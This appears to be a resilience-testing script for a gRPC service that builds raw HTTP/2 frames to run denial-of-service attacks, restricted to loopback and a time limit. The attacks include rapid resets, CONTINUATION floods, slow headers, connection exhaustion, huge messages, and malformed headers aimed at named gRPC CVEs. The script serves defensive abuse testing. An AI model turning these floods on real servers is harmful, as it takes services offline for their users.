#!/usr/bin/python3
"""tests/abuse/attacks.py NAME --target=127.0.0.1:PORT [--source=127.0.0.2] [--seconds=5] [--keys=FILE]: one attack, from one address, for that long.

What a hostile client does to a port, in raw frames of HTTP/2: bounded in count and in time, and to loopback alone. It prints what it managed to
do as a line of JSON. run.py starts it beside a mesh and measures what becomes of the services and of others' calls.
"""

import argparse
import json
import os
import pathlib
import random
import resource
import secrets
import socket
import struct
import sys
import time

import hpack

sys.dont_write_bytecode = True
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "scripts" / "lib"))

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
WINDOW = 65535
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
GET_ALERT = "/stockalert.alert.v1.AlertService/GetAlert"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def message(body=b""):
    """A gRPC message: not compressed, its length, the body."""
    return b"\0" + struct.pack(">I", len(body)) + body


def headers(path, key=None, more=(), scheme="http"):
    fields = [(":method", "POST"), (":scheme", scheme), (":path", path), (":authority", "localhost"), ("content-type", "application/grpc"),
              ("te", "trailers")]
    if key:
        fields.append(("authorization", f"Bearer {key}"))
    # Without the table of earlier fields: each block stands alone.
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    return encoder.encode(fields + list(more), huffman=False)


def some_key():
    """Well-formed, and nobody's."""
    return "sak_" + secrets.token_urlsafe(32)


class Gone(Exception):
    """The other side has ended the connection, or takes nothing more."""


class Connection:
    """One connection in raw frames. Not for several threads."""

    def __init__(self, target, source, timeout_s=5, receive_window=None):
        host, port = target.rsplit(":", 1)
        self.socket = socket.socket()
        if receive_window:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_window)
        self.socket.settimeout(timeout_s)
        self.socket.bind((source, 0))
        try:
            self.socket.connect((host, int(port)))
        except OSError as error:
            self.socket.close()
            raise Gone(str(error)) from None
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buffer = bytearray()
        self.next_stream = 1
        self.window = WINDOW
        self.windows = {}
        self.initial_window = WINDOW
        self.answers = {}
        self.ended = {}
        self.closed = False
        self.decoder = hpack.Decoder()

    def open(self):
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        return self

    def send(self, data, timeout_s=5):
        self.socket.settimeout(timeout_s)
        try:
            self.socket.sendall(data)
        except OSError as error:
            raise Gone(str(error)) from None

    def stream(self):
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        self.windows[stream] = self.initial_window
        return stream

    def drain(self, wait_s=0.0):
        """Reads what is there and answers it as a well-behaved client would. Raises Gone at the end."""
        self.socket.settimeout(wait_s if wait_s > 0 else 0.0)
        try:
            while True:
                data = self.socket.recv(65536)
                if not data:
                    raise Gone("closed")
                self.buffer += data
                self.socket.settimeout(0.0)
        except (BlockingIOError, TimeoutError):
            pass
        except OSError as error:
            raise Gone(str(error)) from None
        replies = b""
        begin = 0
        while len(self.buffer) - begin >= 9:
            length = int.from_bytes(self.buffer[begin:begin + 3], "big")
            if len(self.buffer) - begin < 9 + length:
                break
            kind, flags, stream = struct.unpack(">BBI", self.buffer[begin + 3:begin + 9])
            payload = bytes(self.buffer[begin + 9:begin + 9 + length])
            begin += 9 + length
            replies += self._take(kind, flags, stream & 0x7fffffff, payload)
        del self.buffer[:begin]
        if replies:
            self.send(replies)

    def _take(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for place in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[place:place + 6])
                if name == 4:
                    for open_stream in self.windows:
                        self.windows[open_stream] += value - self.initial_window
                    self.initial_window = value
            return frame(SETTINGS, ACK, 0)
        if kind == PING and not flags & ACK:
            return frame(PING, ACK, 0, payload)
        if kind == WINDOW_UPDATE:
            amount = struct.unpack(">I", payload)[0]
            if stream == 0:
                self.window += amount
            elif stream in self.windows:
                self.windows[stream] += amount
        elif kind == DATA:
            if payload:
                update = struct.pack(">I", len(payload))
                return frame(WINDOW_UPDATE, 0, 0, update) + (b"" if flags & END_STREAM else frame(WINDOW_UPDATE, 0, stream, update))
        elif kind == HEADERS:
            if flags & END_HEADERS:
                try:
                    for name, value in self.decoder.decode(payload):
                        if name == "grpc-status":
                            self.answers[stream] = int(value)
                except hpack.HPACKError:
                    pass
            if flags & END_STREAM:
                self.ended[stream] = True
                self.windows.pop(stream, None)
        elif kind == RST_STREAM:
            self.ended[stream] = True
            self.windows.pop(stream, None)
        elif kind == GOAWAY:
            self.closed = True
        return b""

    def begin_call(self, path, body, key=None):
        stream = self.stream()
        self.send(frame(HEADERS, END_HEADERS, stream, headers(path, key)))
        data = message(body)
        while data:
            part = data[:min(16384, max(0, self.window), max(0, self.windows.get(stream, 0)))]
            if not part:
                self.drain(0.5)
                if stream in self.ended:
                    return stream
                continue
            data = data[len(part):]
            self.window -= len(part)
            self.windows[stream] -= len(part)
            self.send(frame(DATA, 0 if data else END_STREAM, stream, part))
        return stream

    def call(self, path, body=b"", key=None, timeout_s=10):
        """The gRPC status of one call, or None."""
        stream = self.begin_call(path, body, key)
        deadline = time.monotonic() + timeout_s
        while stream not in self.ended and time.monotonic() < deadline:
            self.drain(0.2)
        self.ended.pop(stream, None)
        return self.answers.pop(stream, None)

    def close(self):
        self.socket.close()


class Attack:
    """What an attack knows: where to, from where, until when, and with which keys."""

    def __init__(self, target, source, seconds, keys):
        self.target, self.source, self.keys = target, source, keys
        self.end = time.monotonic() + seconds
        self.did = {}

    def going(self):
        return time.monotonic() < self.end

    def count(self, what, by=1):
        self.did[what] = self.did.get(what, 0) + by

    def connect(self, **options):
        try:
            connection = Connection(self.target, self.source, **options)
            self.count("connections")
            return connection
        except Gone:
            self.count("refused connections")
            return None

    def open(self, **options):
        connection = self.connect(**options)
        try:
            return connection and connection.open()
        except Gone:
            return None

    def opened(self, many):
        return [connection for connection in (self.open() for _ in range(many)) if connection]

    def rotate(self, connections, act):
        """Lets each connection act in turn, and replaces what has gone."""
        while self.going():
            for connection in list(connections):
                if not self.going():
                    return
                try:
                    act(connection)
                except Gone:
                    connection.close()
                    connections.remove(connection)
                    self.count("cut connections")
                    connections += self.opened(1)
            if not connections:
                time.sleep(0.02)
                connections += self.opened(1)


# --- without a key

def connections_past_the_limit(attack):
    """As many connections as the process may have open files, and 400; then all are closed."""
    held = []
    for _ in range(int(os.environ.get("ABUSE_CONNECTIONS", "4496"))):
        connection = attack.connect(timeout_s=2)
        if connection:
            held.append(connection)
        if not attack.going():
            break
    time.sleep(1)
    for connection in held:
        connection.close()
    time.sleep(1)


def literal_field(name, length):
    """The beginning of a header field whose value has `length` bytes, as HPACK writes it; the value itself follows."""
    number, rest = b"\x7f", length - 127
    while rest >= 128:
        number += bytes([rest & 0x7f | 0x80])
        rest >>= 7
    return b"\0" + bytes([len(name)]) + name + number + bytes([rest])


def continuation_flood(attack):
    """48 MB of CONTINUATION frames: one value that never ends, in small frames."""
    piece = frame(CONTINUATION, 0, 1, b"y" * 1000) * 16
    left = 48_000_000
    while attack.going() and left > 0:
        connection = attack.open()
        if connection is None:
            time.sleep(0.05)
            continue
        try:
            connection.send(frame(HEADERS, 0, 1, headers(GET_ALERT) + literal_field(b"x", 48_000_000)))
            while attack.going() and left > 0:
                connection.send(piece)
                left -= len(piece)
                attack.count("bytes", len(piece))
                connection.drain()
        except Gone:
            attack.count("cut connections")
        connection.close()


def rapid_resets(attack):
    """Streams begun and reset in the same breath."""
    block = headers(GET_ALERT, some_key())

    def act(connection):
        burst = b""
        for _ in range(100):
            stream = connection.next_stream
            connection.next_stream += 2
            burst += frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        connection.send(burst, timeout_s=2)
        attack.count("resets", 100)
        connection.drain()
    attack.rotate(attack.opened(8), act)


def unfinished_bodies(attack):
    """100 bodies of 3.9 MB, each without its last byte."""
    size = 3_900_000
    held = attack.opened(10)
    streams = {}
    for connection in held:
        for _ in range(10):
            stream = connection.stream()
            try:
                connection.send(frame(HEADERS, END_HEADERS, stream, headers(GET_ALERT)))
            except Gone:
                break
            streams[connection, stream] = message(b"x" * size)[:size]
    piece = {}
    while attack.going() and streams:
        moved = False
        for (connection, stream), data in list(streams.items()):
            try:
                connection.drain()
                if stream in connection.ended:
                    attack.count("refused bodies")
                    del streams[connection, stream]
                    continue
                at = piece.get((connection, stream), 0)
                part = data[at:at + min(16384, max(0, connection.window), max(0, connection.windows.get(stream, 0)))]
                if part:
                    connection.window -= len(part)
                    connection.windows[stream] -= len(part)
                    connection.send(frame(DATA, 0, stream, part))
                    piece[connection, stream] = at + len(part)
                    attack.count("bytes", len(part))
                    moved = True
            except Gone:
                attack.count("cut bodies")
                del streams[connection, stream]
        if not moved:
            time.sleep(0.02)
    while attack.going():
        time.sleep(0.1)


def reflection_streams(attack):
    """10,000 streams of reflection, held open."""
    block = headers(REFLECTION)
    held = attack.opened(100)

    def act(connection):
        if connection.next_stream < 200 and not connection.closed:
            stream = connection.stream()
            connection.send(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, message(b"\x3a\x01*")))
            attack.count("streams")
        else:
            time.sleep(0.001)
        connection.drain()
    attack.rotate(held, act)


def malformed_fields(attack):
    """Fields that gRPC 1.51 aborts at, once the headers exceed 8 KB (CVE-2023-1428), and fields in no base64 (CVE-2023-32732)."""
    long = [("x-long", "y" * 9000)]
    kinds = [[("grpclb_client_stats", "x")] + long, [("te", "x")] + long, [("x-data-bin", "not base64!")], [("grpc-trace-bin", "%%%")],
             [("grpc-timeout", "nonsense")], [("grpc-encoding", "nonsense")]]

    def act(connection):
        for more in kinds:
            stream = connection.stream()
            connection.send(frame(HEADERS, END_HEADERS, stream, headers(GET_ALERT, some_key(), more)) + frame(DATA, END_STREAM, stream, message()))
            attack.count("requests")
        # CVE-2023-1428's third: another scheme.
        stream = connection.stream()
        connection.send(frame(HEADERS, END_HEADERS, stream, headers(GET_ALERT, some_key(), long, "ftpx"))
                        + frame(DATA, END_STREAM, stream, message()))
        connection.drain(0.05)
    attack.rotate(attack.opened(4), act)


def slow_headers(attack):
    """300 connections whose first headers come a byte at a time."""
    block = headers(GET_ALERT, some_key())
    held = attack.opened(300)
    for connection in held:
        try:
            connection.send(frame(HEADERS, 0, 1, block[:1]))
        except Gone:
            attack.count("cut connections")
    place = 1
    while attack.going():
        for connection in list(held):
            try:
                connection.send(frame(CONTINUATION, 0, 1, block[place:place + 1]))
            except Gone:
                attack.count("cut connections")
                held.remove(connection)
        place = min(place + 1, len(block) - 2)
        time.sleep(0.5)


def idle_connections(attack):
    """800 connections that say hello, and nothing more."""
    held = attack.opened(800)
    while attack.going():
        time.sleep(0.2)
    for connection in held:
        try:
            connection.drain()
            attack.count("held")
        except Gone:
            attack.count("cut connections")


def pings(attack):
    def act(connection):
        connection.send(frame(PING, 0, 0, b"12345678") * 500, timeout_s=2)
        attack.count("pings", 500)
        connection.drain()
    attack.rotate(attack.opened(4), act)


def large_metadata(attack):
    """Headers of half a megabyte, in as many frames as it takes."""
    block = headers(GET_ALERT, some_key(), [(f"x-{n}", "z" * 4000) for n in range(125)])
    parts = [block[at:at + 16384] for at in range(0, len(block), 16384)]

    def act(connection):
        stream = connection.stream()
        connection.send(frame(HEADERS, 0, stream, parts[0]) + b"".join(
            frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, stream, part) for part in parts[1:]))
        attack.count("requests")
        connection.drain(0.02)
    attack.rotate(attack.opened(8), act)


def large_messages(attack):
    """Whole messages of 8 MB, with a key that is nobody's."""
    body = b"x" * 8_000_000

    def act(connection):
        connection.call(GET_ALERT, body, some_key(), timeout_s=2)
        attack.count("messages")
    attack.rotate(attack.opened(4), act)


def unknown_keys(attack):
    """Calls with keys that are well-formed and nobody's, each another one, as fast as they go."""
    flood(attack, lambda: GET_ALERT, lambda: b"\x0a\x08alerts/x", some_key)


def flood(attack, path, body, key, connections=8, depth=20):
    """Calls at full speed, `depth` at a time on each connection."""
    def act(connection):
        burst = b""
        begun = []
        for _ in range(depth):
            stream = connection.stream()
            begun.append(stream)
            burst += frame(HEADERS, END_HEADERS, stream, headers(path(), key())) + frame(DATA, END_STREAM, stream, message(body()))
        connection.send(burst)
        deadline = time.monotonic() + 3
        while not all(stream in connection.ended for stream in begun) and time.monotonic() < deadline and attack.going():
            connection.drain(0.05)
        for stream in begun:
            status = connection.answers.pop(stream, None)
            attack.count(f"status {status}" if status is not None else "without an answer")
            connection.ended.pop(stream, None)
    attack.rotate(attack.opened(connections), act)


# --- with a key

def encoded(name, request):
    """A request of the public API, from its JSON form."""
    import importlib  # pylint: disable=import-outside-toplevel

    import client  # pylint: disable=import-outside-toplevel
    from google.protobuf import json_format  # pylint: disable=import-outside-toplevel
    client.generate()
    service, method = name.split(".")
    package, interface, proto = client.SERVICES[service]
    module = importlib.import_module(proto.replace("/", ".").removesuffix(".proto") + "_pb2")
    kind = module.DESCRIPTOR.services_by_name[interface].methods_by_name[method].input_type
    made = json_format.ParseDict(request, kind._concrete_class())  # pylint: disable=protected-access
    return f"/{package}.{interface}/{method}", made.SerializeToString()


def symbol():
    return "Q" + "".join(random.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(5))


def registering_symbols(attack):
    flood(attack, lambda: "/stockalert.ticker.v1.TickerService/BatchRegisterTickers",
          lambda: encoded("ticker.BatchRegisterTickers", {"symbols": [symbol() for _ in range(50)]})[1], lambda: attack.keys[0],
          connections=2, depth=4)


def create_and_delete(attack):
    path, body = encoded("alert.CreateAlert", {"parent": "users/me", "alert": {"symbol": "AAPL", "condition": {"price_target": {
        "comparison": "COMPARISON_AT_OR_ABOVE", "price": "100000"}}}})
    flood(attack, lambda: path, lambda: body, lambda: attack.keys[0])


def bad_symbols(attack):
    """A batch of which nothing is right."""
    path, body = encoded("ticker.BatchGetQuotes", {"names": [f"tickers/-{n}" + "x" * 90 for n in range(100)]})
    flood(attack, lambda: path, lambda: body, lambda: attack.keys[0], connections=4, depth=4)


def million_states(attack):
    """A repeated field with a million entries, a byte each."""
    path, body = encoded("alert.ListAlerts", {"parent": "users/me"})
    states = b"\x01" * 1_000_000
    length, varint = len(states), b""
    while length:
        varint += bytes([(length & 0x7f) | (0x80 if length > 0x7f else 0)])
        length >>= 7
    import importlib  # pylint: disable=import-outside-toplevel

    import client  # pylint: disable=import-outside-toplevel
    client.generate()
    fields = importlib.import_module("stockalert.alert.v1.alert_pb2").ListAlertsRequest.DESCRIPTOR.fields
    repeated = [field.number for field in fields if field.label == field.LABEL_REPEATED]
    body += bytes([repeated[0] << 3 | 2]) + varint + states

    def act(connection):
        status = connection.call(path, body, attack.keys[0], timeout_s=3)
        attack.count(f"status {status}")
    attack.rotate(attack.opened(4), act)


def streams_of_many(attack):
    """50 accounts, each with as many streams as it gets."""
    path, body = encoded("ticker.WatchQuotes", {"names": ["tickers/AAPL"]})
    held = attack.opened(50)

    def act(connection):
        if connection.next_stream < 100 and not connection.closed:
            connection.begin_call(path, body, attack.keys[connection.socket.fileno() % len(attack.keys)])
            attack.count("streams")
        else:
            time.sleep(0.001)
        connection.drain()
    attack.rotate(held, act)


# Name → (what it does, the service that it calls, whether it has keys).
ATTACKS = {
    "connections": (connections_past_the_limit, "alert", False),
    "continuation": (continuation_flood, "alert", False),
    "resets": (rapid_resets, "alert", False),
    "bodies": (unfinished_bodies, "alert", False),
    "reflection": (reflection_streams, "alert", False),
    "fields": (malformed_fields, "alert", False),
    "slow-headers": (slow_headers, "alert", False),
    "idle": (idle_connections, "alert", False),
    "pings": (pings, "alert", False),
    "metadata": (large_metadata, "alert", False),
    "messages": (large_messages, "alert", False),
    "unknown-keys": (unknown_keys, "alert", False),
    "symbols": (registering_symbols, "ticker", True),
    "create": (create_and_delete, "alert", True),
    "bad-symbols": (bad_symbols, "ticker", True),
    "states": (million_states, "alert", True),
    "streams": (streams_of_many, "ticker", True),
}


def main():
    parser = argparse.ArgumentParser(prog="tests/abuse/attacks.py", description=__doc__)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("--target", required=True)
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--keys", help="a file with an API key a line")
    arguments = parser.parse_args()
    if not (arguments.target.startswith("127.") and arguments.source.startswith("127.")):
        parser.error("only loopback is attacked")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, hard), hard))
    keys = pathlib.Path(arguments.keys).read_text().split() if arguments.keys else []
    attack = Attack(arguments.target, arguments.source, min(arguments.seconds, 120), keys)
    # One that is through early begins again: its neighbour's calls are to be many.
    while attack.going():
        ATTACKS[arguments.name][0](attack)
    print(json.dumps(attack.did))


if __name__ == "__main__":
    sys.exit(main())
